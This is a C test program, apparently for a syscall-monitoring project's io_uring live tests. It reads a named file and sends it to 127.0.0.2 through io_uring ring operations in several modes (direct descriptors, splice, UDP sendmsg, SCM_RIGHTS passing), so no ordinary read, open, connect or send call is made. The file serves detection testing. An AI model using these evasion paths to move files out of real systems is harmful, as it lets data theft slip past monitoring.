/*
 * Test program for the io_uring live tests (src/source/io-uring.live.test.ts;
 * built there with gcc and liburing): reads FILE and sends it to
 * 127.0.0.2:PORT with the I/O done by the kernel through an io_uring ring,
 * so none of read(2), open(2), connect(2) or send(2) is made.
 *
 *   uring-exfil ring   FILE PORT  openat, read, close, connect and send through the ring
 *   uring-exfil fixed  FILE PORT  open(2), register the file with the ring, close(2) the
 *                                 descriptor, then read the registered file through the ring
 *   uring-exfil direct FILE PORT  openat into a ring-only (direct) descriptor, read it through the ring
 *   uring-exfil splice FILE PORT  splice through the ring from the file into a pipe, then read it
 *   uring-exfil chunks FILE PORT  as ring, but read and send 64 bytes at a time (runs of completions)
 *   uring-exfil udpmsg FILE PORT  as ring, but one UDP datagram, no connect: sendmsg with msg_name
 *   uring-exfil udpto  FILE PORT  as udpmsg, but send with a destination (sqe addr2, as sendto)
 *   uring-exfil rights FILE PORT  open(2) FILE and pass its descriptor over a socketpair with a
 *                                 ring sendmsg (SCM_RIGHTS); prints "passed 1"
 *   uring-exfil inherited FILE FD as ring, but send on FD, a connected socket it was given
 *                                 (inherited), and keep it open 200 ms after
 *
 * Prints "read N sent M" and exits 0, or names the step that failed and exits 1.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct io_uring ring;

static int run(const char *what, struct io_uring_sqe *sqe, unsigned flags) {
  struct io_uring_cqe *cqe;
  io_uring_sqe_set_flags(sqe, flags);
  if (io_uring_submit(&ring) != 1 || io_uring_wait_cqe(&ring, &cqe) != 0) {
    fprintf(stderr, "%s: submit failed\n", what);
    exit(1);
  }
  int res = cqe->res;
  io_uring_cqe_seen(&ring, cqe);
  if (res < 0) {
    fprintf(stderr, "%s: %s\n", what, strerror(-res));
    exit(1);
  }
  return res;
}

int main(int argc, char **argv) {
  static char buf[1 << 16];
  if (argc != 4) {
    fprintf(stderr, "usage: uring-exfil ring|fixed|direct|splice FILE PORT\n");
    return 2;
  }
  const char *mode = argv[1], *file = argv[2];
  if (io_uring_queue_init(8, &ring, 0) < 0) {
    perror("io_uring_queue_init");
    return 1;
  }
  if (strcmp(mode, "rights") == 0) {
    int fd = open(file, O_RDONLY), sp[2];
    if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sp) != 0) {
      perror("open/socketpair");
      return 1;
    }
    char one = 'x', ctl[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {.iov_base = &one, .iov_len = 1};
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(int));
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_sendmsg(sqe, sp[0], &msg, 0);
    run("sendmsg rights", sqe, 0);
    printf("passed 1\n");
    return 0;
  }
  int n;
  int chunks = strcmp(mode, "chunks") == 0;
  int udpmsg = strcmp(mode, "udpmsg") == 0, udpto = strcmp(mode, "udpto") == 0;
  int inherited = strcmp(mode, "inherited") == 0;
  if (strcmp(mode, "ring") == 0 || chunks || udpmsg || udpto || inherited) {
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_openat(sqe, AT_FDCWD, file, O_RDONLY, 0);
    int fd = run("openat", sqe, 0);
    n = 0;
    for (;;) {
      sqe = io_uring_get_sqe(&ring);
      io_uring_prep_read(sqe, fd, buf + n, chunks ? 64 : sizeof buf - n, n);
      int got = run("read", sqe, 0);
      n += got;
      if (got == 0 || !chunks || n > (int)sizeof buf - 64) break;
    }
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_close(sqe, fd);
    run("close", sqe, 0);
  } else if (strcmp(mode, "fixed") == 0) {
    int fd = open(file, O_RDONLY);
    if (fd < 0 || io_uring_register_files(&ring, &fd, 1) != 0) {
      perror("register");
      return 1;
    }
    close(fd);
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_read(sqe, 0, buf, sizeof buf, 0);
    n = run("read fixed", sqe, IOSQE_FIXED_FILE);
  } else if (strcmp(mode, "direct") == 0) {
    if (io_uring_register_files_sparse(&ring, 1) != 0) {
      perror("register sparse");
      return 1;
    }
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_openat_direct(sqe, AT_FDCWD, file, O_RDONLY, 0, 0);
    run("openat direct", sqe, 0);
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_read(sqe, 0, buf, sizeof buf, 0);
    n = run("read direct", sqe, IOSQE_FIXED_FILE);
  } else if (strcmp(mode, "splice") == 0) {
    int fd = open(file, O_RDONLY), p[2];
    if (fd < 0 || pipe(p) != 0) {
      perror("open/pipe");
      return 1;
    }
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_splice(sqe, fd, 0, p[1], -1, sizeof buf, 0);
    int moved = run("splice", sqe, 0);
    n = (int)read(p[0], buf, moved);
  } else {
    fprintf(stderr, "unknown mode %s\n", mode);
    return 2;
  }
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[3]))};
  inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
  if (udpmsg || udpto) {
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    struct iovec iov = {.iov_base = buf, .iov_len = (size_t)n};
    struct msghdr msg = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
    if (udpmsg) {
      io_uring_prep_sendmsg(sqe, u, &msg, 0);
    } else {
      // liburing 2.3 has no io_uring_prep_sendto: the destination goes in addr2/addr_len (kernel 6.0+)
      io_uring_prep_send(sqe, u, buf, n, 0);
      sqe->addr2 = (unsigned long)&a;
      sqe->addr_len = sizeof a;
    }
    int sent = run(udpmsg ? "sendmsg" : "sendto", sqe, 0);
    printf("read %d sent %d\n", n, sent);
    return 0;
  }
  int s;
  struct io_uring_sqe *sqe;
  if (inherited) {
    s = atoi(argv[3]);
  } else {
    s = socket(AF_INET, SOCK_STREAM, 0);
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_connect(sqe, s, (struct sockaddr *)&a, sizeof a);
    run("connect", sqe, 0);
  }
  int sent = 0;
  while (sent < n) {
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_send(sqe, s, buf + sent, chunks && n - sent > 64 ? 64 : n - sent, 0);
    sent += run("send", sqe, 0);
  }
  printf("read %d sent %d\n", n, sent);
  if (inherited) usleep(200000);
  close(s);
  io_uring_queue_exit(&ring);
  return 0;
}
